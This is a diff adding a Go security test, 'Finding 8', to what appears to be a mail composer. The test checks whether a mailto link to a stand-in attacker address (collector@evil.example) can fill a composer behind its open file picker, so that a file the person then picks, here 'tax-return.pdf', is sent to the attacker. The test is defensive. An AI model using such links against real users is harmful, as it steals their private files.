@@ -48,3 +48,28 @@ func TestAttackIgnoredFieldsFloodTheNotice(t *testing.T) {
 		t.Fatalf("the notice is %d bytes long (%q…): the ignored fields are listed without bound", n, c.Notice.Text[:200])
 	}
 }
+
+// Finding 8: targetFor looks only at the form: an empty composer with the
+// file picker open (the person is choosing a file to attach to the message
+// they are about to write) is filled by a link behind the picker, and the
+// file they then pick is attached to the link's message, addressed by the
+// page that opened the link.
+func TestAttackLinkFillsAComposerWhoseFilePickerIsOpen(t *testing.T) {
+	if os.Getenv("STAMP_ATTACK") == "" {
+		t.Skip("attack finding 8")
+	}
+	dir := t.TempDir()
+	s, _ := newTestComposers(t, dir, Options{})
+	first := s.Start(nil)
+	first.ShowAttachDialog()
+	if first.Window.Canvas().Overlays().Top() == nil {
+		t.Fatal("the file picker did not open")
+	}
+	Receive(first, []instance.Arg{{Kind: instance.Mailto, Value: "mailto:collector@evil.example?subject=Your%20file"}})
+	if first.To.Text != "" {
+		secret := writeFile(t, t.TempDir(), "tax-return.pdf", []byte("%PDF-1.4"))
+		first.AttachFiles(secret) // what the still-open picker does when the person picks
+		t.Fatalf("a link filled the composer behind its open file picker: To %q, Subject %q; the file picked next goes to it (attachments %v)",
+			first.To.Text, first.Subject.Text, first.Attachments.Paths())
+	}
+}
